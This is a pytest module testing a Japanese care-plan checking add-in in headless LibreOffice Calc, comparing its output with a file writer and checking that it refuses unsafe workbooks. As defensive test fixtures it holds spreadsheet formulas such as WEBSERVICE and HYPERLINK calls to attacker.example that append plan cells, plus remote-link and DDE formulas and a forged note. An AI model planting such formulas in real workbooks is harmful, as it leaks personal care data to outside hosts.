"""「点検する」 in a real LibreOffice Calc (headless), checked afterwards with openpyxl.

One soffice (own throwaway profile, killed at the end) runs every job of this module in one driver call:
the click through ``lo_button.check_document`` over the UNO bridge, then the installed extension's menu
URL dispatched in the document's window (the code runs inside soffice's own Python, as for a care
manager). Each click stores the document as .xlsx; openpyxl then reads notes, fills, the 点検結果 sheet,
its links and the hidden state sheet, and compares them with what the file writer makes of the same
findings (``flow.click`` on a ``PackageWorkbook``). In CI a missing LibreOffice is a failure, not a skip.
"""

from __future__ import annotations

import datetime as dt
import os
import shutil
from pathlib import Path

import openpyxl
import pytest

import libreoffice
import parity_cases
from xl_careplan.addin import flow
from xl_careplan.addin.oxt import BUTTON_TITLE, COMMAND_URL, MENU_TITLE, build_oxt
from xl_careplan.fields import SHEET_RESULTS
from xl_careplan.profiles import load_profile
from xl_careplan.writer.annotate import NOTE_MARKER, RESULTS_TITLE, SEVERITY_FILL, STATE_SHEET
from xl_careplan.writer.editor import PackageWorkbook

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "samples"
TODAY = dt.date(2026, 11, 25)
DIRECT = ["07_period_and_dates.xlsx", "10_acknowledged_deviation.xlsx", "03_other_layout_wareki.xlsx"]
VIA_EXTENSION = "05_asahikawa_kaimono_daikou.xlsx"  # checked with the profile chosen when building the .oxt
EXT_PROFILE = "asahikawa"
TEMPLATE = ROOT / "templates" / "居宅サービス計画書.xlsx"
# the Calc parity check reads every unseen-class case and these samples (all samples: tests/test_addin_parity.py with
# the stand-in; in Calc each sample costs ~3 s, and all 12 were equal when measured)
CALC_PARITY_SAMPLES = ("01_asahikawa_clean.xlsx", "08_missing_service_fields.xlsx")
GRID_SAMPLES = ["03_other_layout_wareki.xlsx", "07_period_and_dates.xlsx", "11_monitoring_gap.xlsx"]
# LibreOffice 7.4 drops number formats with a BCP 47 private-use locale such as Excel's
# [$-ja-JP-x-gannen]ggge"年"m"月"d"日" (和暦 with 元年) on import: the cell shows its serial number,
# so the grid holds 46285 where the file reader has 2026-09-20. The readers accept serials for dates,
# so the check must still find the same.
CALC_DROPS_FORMATS = "04_other_layout_fullwidth.xlsx"

_why = libreoffice.missing()
if _why and os.environ.get("CI"):
    pytest.fail(f"CI must drive a real LibreOffice: {_why} (.ci/run installs it)", pytrace=False)
pytestmark = pytest.mark.skipif(_why is not None, reason=_why or "")


@pytest.fixture(scope="module")
def calc_run(tmp_path_factory):
    """Every job of the module in one soffice: {sample: {'clicks': [...], 'out': [paths]}}, plus the extras."""
    work = tmp_path_factory.mktemp("calc")
    inputs = work / "in"  # copies: LibreOffice puts lock files next to what it opens
    inputs.mkdir()

    def copy(path: Path) -> str:
        shutil.copy(path, inputs / path.name)
        return str(inputs / path.name)
    oxt = build_oxt(work / "oxt", profile=EXT_PROFILE).path
    jobs: list[dict] = [{"kind": "install", "oxt": str(oxt)}]
    outs: dict[str, list[Path]] = {}
    for name in DIRECT:
        outs[name] = [work / f"{Path(name).stem}_{k}.xlsx" for k in (1, 2)]
        jobs.append({"kind": "click", "in": copy(SAMPLES / name), "out": [str(p) for p in outs[name]],
                     "today": TODAY.isoformat()})
    outs[CALC_DROPS_FORMATS] = [work / "gannen.xlsx"]
    jobs.append({"kind": "click", "in": copy(SAMPLES / CALC_DROPS_FORMATS), "out": [str(outs[CALC_DROPS_FORMATS][0])],
                 "today": TODAY.isoformat()})
    # the saved result opened again and clicked again: the state sheet survives .xlsx
    first = outs[DIRECT[0]][0]
    outs["reopened"] = [work / "reopened.xlsx"]
    jobs.append({"kind": "click", "in": str(first), "out": [str(outs["reopened"][0])], "today": TODAY.isoformat()})
    outs["extension"] = [work / f"extension_{k}.xlsx" for k in (1, 2)]
    jobs.append({"kind": "click", "via": "extension", "in": copy(SAMPLES / VIA_EXTENSION),
                 "out": [str(p) for p in outs["extension"]], "today": TODAY.isoformat()})
    outs["received"] = [work / "received_1.xlsx"]
    jobs.append({"kind": "click", "in": _received_plan(inputs / "received.xlsx"),
                 "out": [str(outs["received"][0])], "today": TODAY.isoformat()})
    jobs.append({"kind": "addons"})
    grids = [TEMPLATE] + [SAMPLES / n for n in GRID_SAMPLES]
    jobs += [{"kind": "grid", "in": copy(p)} for p in grids]
    n_before_parity = len(jobs)
    parity = [p for p in parity_cases.build(work / "parity") if p.parent != SAMPLES or p.name in CALC_PARITY_SAMPLES]
    jobs += [{"kind": "findings", "in": copy(p), "profile": parity_cases.profile_of(p), "today": TODAY.isoformat()}
             for p in parity]
    jobs.append({"kind": "macro_click", "in": copy(SAMPLES / "07_period_and_dates.xlsx"), "mark": "マクロが動きました",
                 "today": TODAY.isoformat()})
    far_out = work / "far_1.xlsx"
    jobs.append({"kind": "click", "in": _far_cell(inputs / "far.xlsx"), "out": [str(far_out)], "today": TODAY.isoformat()})
    n_core = len(jobs)
    third = _third_review_jobs(inputs)
    jobs += list(third.values())
    calc = libreoffice.Calc(work)
    calc.start()
    try:
        results = calc.run(jobs)
    finally:
        calc.stop()
    for job, res in zip(jobs, results):
        print(job["kind"], job.get("via", ""), Path(job.get("in", "")).name, res.get("seconds"))
        assert "error" not in res, f"{job['kind']}: {res.get('traceback') or res.get('error')}"
    keys = DIRECT + [CALC_DROPS_FORMATS, "reopened", "extension", "received"]
    out = {k: {"clicks": r["clicks"], "out": outs[k]} for k, r in zip(keys, results[1:1 + len(keys)])}
    out["install"] = results[0]
    out["addons"] = results[n_before_parity - 1 - len(grids)]
    out["grids"] = dict(zip([p.name for p in grids], results[n_before_parity - len(grids):n_before_parity]))
    out["parity"] = {p: r["findings"] for p, r in zip(parity, results[n_before_parity:])}
    out["far"] = {"clicks": results[n_core - 1]["clicks"], "out": [far_out]}
    out["macro"] = results[n_core - 2]
    out["third"] = dict(zip(third, results[n_core:]))
    return out


OUTSIDE = {  # Calc's own spelling of what tests/test_addin_third.py gives the stand-in
    "webservice": '=WEBSERVICE("https://attacker.example/?n="&$第1表.B4)',
    "remote_link": "='file://attacker.example/share/master.ods'#$Sheet1.A1",
    "dde": '=DDE("soffice";"/tmp/x.ods";"Sheet1.A1")',
}


def _third_review_jobs(inputs: Path) -> dict[str, dict]:
    """Jobs of the third review: events, VBA, formulas that reach outside, protection (each on its own copy)."""
    today = TODAY.isoformat()

    def plan(tag: str) -> str:
        return str(shutil.copy(SAMPLES / "07_period_and_dates.xlsx", inputs / f"third_{tag}.xlsx"))

    jobs = {"events": {"kind": "events_click", "in": plan("events"), "mark": "マクロが動きました", "today": today},
            "vba": {"kind": "vba_click", "in": plan("vba"), "mark": "マクロが動きました", "today": today},
            "vba_off": {"kind": "vba_click", "in": plan("vba_off"), "mark": "マクロが動きました", "today": today,
                        "allow": False},
            "protected": {"kind": "outside_click", "in": plan("protected"), "formula": "=SUM(1;2)", "cell": [29, 59],
                          "today": today, "protect": True},
            "inside": {"kind": "outside_click", "in": plan("inside"), "today": today, "cell": [29, 59],
                       "formula": "='file:///tmp/master.ods'#$Sheet1.A1&\"WEBSERVICE(\"&\"|\""},
            "name": {"kind": "outside_click", "in": plan("name"), "formula": 'WEBSERVICE("https://attacker.example/")',
                     "name": "送信", "today": today}}
    for kind, extra in (("merges", {"merges": 250}), ("shapes", {"shapes": 30})):  # each past a budget of 200
        jobs[kind] = {"kind": "outside_click", "in": plan(kind), "formula": "=1", "cell": [42, 400], "today": today,
                      "max_questions": 200, **extra}  # the formula's cell takes the used block over the merges
    for kind, formula in OUTSIDE.items():
        jobs[kind] = {"kind": "outside_click", "in": plan(kind), "formula": formula, "cell": [29, 59], "today": today}
    return jobs


def test_a_received_documents_event_macros_are_unbound_while_we_write_and_bound_again_after(calc_run):
    """Macros bound to the document's events (変更状態が変わったとき …) and every sheet's (内容が変更されたとき, 数式が計算された
    とき …): none is bound at any of our writes, each is back after, as Excel's EnableEvents."""
    e = calc_run["third"]["events"]
    assert e["ok"], e["message"]
    assert e["writes"] > 10 and e["bound_while_writing"] == 0
    assert len(e["before"]) > 4 * 7 and e["after"] == e["before"]


def test_a_vba_mode_document_with_event_procedures_is_refused_when_its_macros_may_run(calc_run):
    """LibreOffice runs an .xlsm's Worksheet_Change itself (VBA mode); it cannot be switched off from outside, so
    nothing is written — unless the document's macros are not allowed to run."""
    vba, off = calc_run["third"]["vba"], calc_run["third"]["vba_off"]
    assert vba["allowed"] and not vba["ok"] and "Worksheet_Change" in vba["message"]
    assert vba["added"] == [] and vba["modified"] is False
    assert not off["allowed"] and off["ok"] and SHEET_RESULTS in off["added"]


@pytest.mark.parametrize("kind", sorted(OUTSIDE) + ["name", "protected"])
def test_calc_refuses_what_it_cannot_write_safely_before_writing(calc_run, kind):
    r = calc_run["third"][kind]
    assert not r["ok"] and "何も書き込まずに止めました" in r["message"], r["message"]
    assert r["added"] == [] and r["modified"] is False
    assert ("保護" if kind == "protected" else "xl-careplan check --annotate") in r["message"]


@pytest.mark.parametrize("kind", ["merges", "shapes"])
def test_calc_refuses_a_sheet_that_would_take_minutes_to_read(calc_run, kind):
    """As in Excel (tests/test_addin_third.py): past shown.MAX_QUESTIONS (here 200) block questions about merged areas
    (250 merges: one question each at least), or shapes at eight calls each, the sheet is refused before anything is
    written."""
    r = calc_run["third"][kind]
    assert not r["ok"] and "時間がかかりすぎる" in r["message"] and "第2表" in r["message"], r["message"]
    assert r["added"] == [] and r["modified"] is False


def test_calc_writes_past_formulas_that_stay_inside(calc_run):
    r = calc_run["third"]["inside"]
    assert r["ok"], r["message"]
    assert SHEET_RESULTS in r["added"]


def _far_cell(dest: Path) -> str:
    """A plan with one value far right: the used block from A1 is 4.9 million cells."""
    wb = openpyxl.load_workbook(SAMPLES / "07_period_and_dates.xlsx")
    wb.worksheets[1]["XFD300"] = "x"
    wb.save(dest)
    return str(dest)


def test_calc_reads_what_the_file_path_reads_on_every_parity_case(calc_run):
    """The Calc button finds (rule, sheet, cell, acknowledged) what `check` finds in the file: hidden rows and
    columns, text boxes, ovals, the print header, a hidden 方針と異なる理由 sheet (tests/parity_cases.py)."""
    from xl_careplan.pipeline import check_file

    differ = []
    for path, found in calc_run["parity"].items():
        res = check_file(str(path), load_profile(parity_cases.profile_of(path)), TODAY)
        if [list(k) for k in parity_cases.key(res.findings)] != found:
            differ.append(path.name)
    assert differ == [], f"{len(calc_run['parity']) - len(differ)} of {len(calc_run['parity'])} equal"


def test_a_received_documents_change_macros_do_not_run_on_our_writes(calc_run):
    """Macros allowed (the user pressed 「マクロを有効にする」) and bound to every sheet's change event: our click writes
    the schedule, notes and 点検結果 through the API, and the sender's macro never runs."""
    m = calc_run["macro"]
    assert m["ok"] and m["allowed"] and SHEET_RESULTS in m["sheets"]
    assert m["marks"] == ["", "マクロが動きました"]  # not after our click; when called, it runs


def test_a_far_cell_is_refused_in_calc_and_nothing_is_written(calc_run):
    (click,) = calc_run["far"]["clicks"]
    assert not click["ok"] and "XFD300" in click["message"] and "大きすぎる" in click["message"]
    assert SHEET_RESULTS not in openpyxl.load_workbook(calc_run["far"]["out"][0]).sheetnames


EVIL = '=HYPERLINK("http://attacker.example/?"&第1表!B4,"詳細")'
FORGED_NOTE = NOTE_MARKER + "\n■エラー [CP101] 偽の指摘\n　根拠: 偽\n利用者の家族の連絡先メモ"


def _received_plan(dest: Path) -> str:
    """A plan as a sender could make it: reasons that look like formulas, a forged state sheet listing a note that
    carries our marker over the user's own text (tests/test_addin_adversarial.py has the same on the stand-in)."""
    from xl_careplan.writer.annotate import STATE_MAGIC

    wb = openpyxl.load_workbook(SAMPLES / "10_acknowledged_deviation.xlsx")
    for row in wb["方針と異なる理由"].iter_rows():
        for c in row:
            if isinstance(c.value, str) and len(c.value) > 20:
                c.value, c.data_type = EVIL, "s"  # stored as text, as another program would
    first = wb.worksheets[0]
    first["A1"].comment = openpyxl.comments.Comment(FORGED_NOTE, "sender")
    state = wb.create_sheet(STATE_SHEET)
    for r in ([STATE_MAGIC, "2026-01-01"], ["kind", "sheet", "cell", "original", "applied"], ["note", first.title, "A1"]):
        state.append(r)
    state.sheet_state = "hidden"
    conf = wb.create_sheet(flow.CONF_SHEET)
    conf.append(["PROFILE", "asahikawa"])
    wb.save(dest)
    return str(dest)


def test_a_received_plan_clicked_in_calc_gets_text_not_formulas_and_keeps_the_users_note(calc_run):
    click = calc_run["received"]["clicks"][0]
    assert click["ok"], click["message"]
    assert click["acknowledged"] >= 1 and "「方針と異なる理由」" in click["message"]
    assert "PROFILE=asahikawa" in click["message"]
    wb = openpyxl.load_workbook(calc_run["received"]["out"][0])
    results = wb[SHEET_RESULTS]
    cells = [c for row in results.iter_rows() for c in row if c.value is not None]
    assert [c.value for c in cells if c.value == EVIL]  # the reason, as text
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # Calc's setDataArray parsed nothing
    assert wb.worksheets[0]["A1"].comment.text == "利用者の家族の連絡先メモ"
    header = next(r for r in results.iter_rows() if r[0].value == "重要度" and r[5].value == "方針と異なる理由")
    assert header[7].value == "理由の場所"


def _file_flow(name: str, tmp_path: Path, settings: dict[str, str] | None = None):
    """The same click on a copy of the file through the file writer, saved: (RunResult, saved path)."""
    copy = tmp_path / name
    shutil.copy(SAMPLES / name, copy)
    fw = PackageWorkbook(copy, label=name)
    result = flow.click(fw, today=TODAY, settings=settings or {})
    dest = tmp_path / f"file_{name}"
    fw.save(dest)
    fw.close()
    return result, dest


def _fill(cell) -> str | None:
    f = cell.fill
    if f is None or f.patternType != "solid" or f.fgColor is None or f.fgColor.type != "rgb":
        return None
    return f.fgColor.rgb[-6:].upper()


def snapshot(path: Path) -> dict:
    """What the care manager sees of a workbook: per sheet whether it is hidden, and per cell value, note,
    fill and link."""
    wb = openpyxl.load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        cells = {}
        for row in ws.iter_rows():
            for c in row:
                item = (None if c.value in (None, "") else c.value, c.comment.text if c.comment else None, _fill(c),
                        c.hyperlink.location if c.hyperlink else None)
                if item != (None, None, None, None):
                    cells[c.coordinate] = item
        out[ws.title] = (ws.sheet_state != "visible", cells)  # Calc has no "very hidden": hidden is hidden
    return out


@pytest.mark.parametrize("name", DIRECT + [CALC_DROPS_FORMATS])
def test_calc_click_reports_what_the_file_flow_reports(calc_run, name, tmp_path):
    click = calc_run[name]["clicks"][0]
    on_file, _ = _file_flow(name, tmp_path)
    assert click["ok"], click["message"]
    assert click["message"] == on_file.message
    assert click["undo"] is False  # as in Excel after a macro: nothing to undo into (see lo_button._leave)
    assert (click["counts"], click["acknowledged"], click["schedule_written"]) == (
        on_file.counts, on_file.acknowledged, on_file.schedule_written)


def _kind_sheet_cell(cells: dict) -> dict:
    return {ref: v for ref, v in cells.items() if ref[0] in "ABC"}


def assert_same_as_file(calc: dict, saved: Path) -> None:
    """Calc's result equals the file writer's, sheet by sheet and cell by cell."""
    disk = snapshot(saved)
    assert list(calc) == list(disk)
    for sheet, (state, cells) in disk.items():
        assert calc[sheet][0] == state, sheet
        if sheet == STATE_SHEET:  # fills there are each writer's own restore tokens: compare what was touched
            cells, calc_cells = (_kind_sheet_cell(c) for c in (cells, calc[sheet][1]))
        else:
            calc_cells = calc[sheet][1]
        assert calc_cells == cells, sheet


@pytest.mark.parametrize("name", DIRECT)
def test_calc_writes_the_same_notes_fills_and_values_as_the_file_writer(calc_run, name, tmp_path):
    _, saved = _file_flow(name, tmp_path)
    calc = snapshot(calc_run[name]["out"][0])
    assert_same_as_file(calc, saved)
    noted = [c for _s, (_st, cells) in calc.items() for c in cells.values() if c[1] and NOTE_MARKER in c[1]]
    assert noted or calc_run[name]["clicks"][0]["counts"] == {}


def test_calc_results_sheet_links_to_each_cell_and_state_sheet_is_hidden(calc_run):
    name = DIRECT[0]
    wb = openpyxl.load_workbook(calc_run[name]["out"][0])
    ws = wb[SHEET_RESULTS]
    assert ws["A1"].value == RESULTS_TITLE and ws["B3"].value == load_profile("national").label
    assert wb[STATE_SHEET].sheet_state == "hidden"
    rows = list(ws.iter_rows(min_row=8))
    linked = [r for r in rows if r[2].hyperlink is not None]
    assert len(linked) >= calc_run[name]["clicks"][0]["counts"]["error"] > 0
    for r in linked:
        sheet, cell = r[1].value, r[2].value
        assert r[2].hyperlink.location == f"'{sheet}'!{cell}"
        target = wb[sheet][cell]
        assert target.comment is not None and r[3].value in target.comment.text
        if r[0].value == "エラー":
            assert _fill(r[0]) == SEVERITY_FILL[min(SEVERITY_FILL)]  # the error colour in the list too


@pytest.mark.parametrize("name", DIRECT)
def test_a_second_calc_click_changes_nothing(calc_run, name):
    first, second = calc_run[name]["out"]
    assert snapshot(second) == snapshot(first)
    clicks = calc_run[name]["clicks"]
    assert clicks[1]["counts"] == clicks[0]["counts"] and clicks[1]["schedule_written"] == 0


def test_a_click_on_the_saved_xlsx_changes_nothing(calc_run):
    """Saved as .xlsx, opened again in Calc and clicked again: the hidden state sheet makes it exact."""
    assert calc_run["reopened"]["clicks"][0]["schedule_written"] == 0
    assert snapshot(calc_run["reopened"]["out"][0]) == snapshot(calc_run[DIRECT[0]]["out"][0])


def test_the_installed_extension_runs_the_check_inside_libreoffice(calc_run, tmp_path):
    assert calc_run["install"]["identifier"] == "org.xl_careplan.calc"
    on_file, saved = _file_flow(VIA_EXTENSION, tmp_path, {"PROFILE": EXT_PROFILE})
    first, second = calc_run["extension"]["out"]
    messages = [c["message"] for c in calc_run["extension"]["clicks"]]
    assert messages[0] == on_file.message  # the profile chosen at build time was used
    assert_same_as_file(snapshot(first), saved)
    assert snapshot(second) == snapshot(first)
    assert openpyxl.load_workbook(first)[SHEET_RESULTS]["B3"].value == load_profile(EXT_PROFILE).label


def test_the_extension_adds_the_menu_and_the_toolbar_button_to_calc(calc_run):
    addons = calc_run["addons"]
    menus = [m for m in addons["OfficeMenuBar"].values() if m["title"] == MENU_TITLE]
    assert len(menus) == 1
    assert menus[0]["items"] == [{"title": BUTTON_TITLE, "url": COMMAND_URL,
                                  "context": "com.sun.star.sheet.SpreadsheetDocument"}]
    buttons = [i for t in addons["OfficeToolBar"].values() for i in t["items"] if i["url"] == COMMAND_URL]
    assert [b["title"] for b in buttons] == [BUTTON_TITLE]


@pytest.mark.parametrize("name", [TEMPLATE.name] + GRID_SAMPLES)
def test_calc_grid_equals_the_file_readers_grid(calc_run, name):
    """What the readers see through UNO (values, dates, merged ranges, defined names) is what they see in the file."""
    from xl_careplan.reading import load_workbook_grid

    path = TEMPLATE if name == TEMPLATE.name else SAMPLES / name
    disk = load_workbook_grid(path)
    calc = calc_run["grids"][name]
    assert calc["order"] == disk.sheet_names
    for s in disk.sheets:
        cells = [[r, c, type(v).__name__, v.isoformat() if isinstance(v, (dt.date, dt.time)) else v]
                 for (r, c), v in sorted(s.cells.items())]
        assert calc["sheets"][s.name]["cells"] == cells, s.name
        assert calc["sheets"][s.name]["merged"] == [list(m) for m in sorted(s.merged)], s.name
    assert calc["names"] == {k: list(v) for k, v in disk.names.items()}


@pytest.mark.parametrize("name", DIRECT)
def test_a_plan_clicked_in_calc_then_annotated_as_a_file_ends_as_if_only_the_file_writer_ran(calc_run, name, tmp_path):
    """Care managers click in Calc and save; the office checks the saved files with `check --annotate`:
    the package writer undoes Calc's colours and notes exactly, then writes its own."""
    clicked = tmp_path / name
    shutil.copy(calc_run[name]["out"][0], clicked)
    fw = PackageWorkbook(clicked, label=name)
    again = flow.click(fw, today=TODAY, settings={})
    fw.save(tmp_path / "again.xlsx")
    fw.close()
    (tmp_path / "once").mkdir()
    once, saved = _file_flow(name, tmp_path / "once")
    assert again.counts == once.counts
    assert_same_as_file(snapshot(tmp_path / "again.xlsx"), saved)
